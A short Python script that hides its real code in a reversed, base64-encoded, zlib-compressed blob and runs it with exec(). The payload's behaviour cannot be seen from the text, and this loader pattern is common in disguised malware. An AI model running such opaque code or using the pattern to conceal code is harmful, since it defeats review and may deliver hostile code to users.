#!/usr/bin/python
# obfuscated
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));
exec((_)(b'==QQpBGGPAf4dPri67ae/qAwAsBQlH6r4SfRG2ApvSddSofCLevmfobNql+AUtNnjbyvsD92kvn7m3SbYAqm6YN832IK/zhN9gnUKrFlW3u7R4b+HdEMGnC5kHKBnyNONtyxvwzb8wTir/1nDV/VzhsJKwM6Da+pMXRc7T6Kaxz1xVS5FnIsE3FLJKBprpAsJ7Wg7FcWRGjF7w48invfVDdZjPZNYIoYOT/iD6sSWratcIev8B2uCIEB5mASupVCxN+Kt2ucgeJkzqIoM03FUkEfxKLMXhYasWFHPMdyQGsFMCfAcROMD2X3+M8v7ffPWm9ev/6kZ3UhyCY64le2VgAEwME0xXklDcYUPDNAAAjgylcwFwJe'))
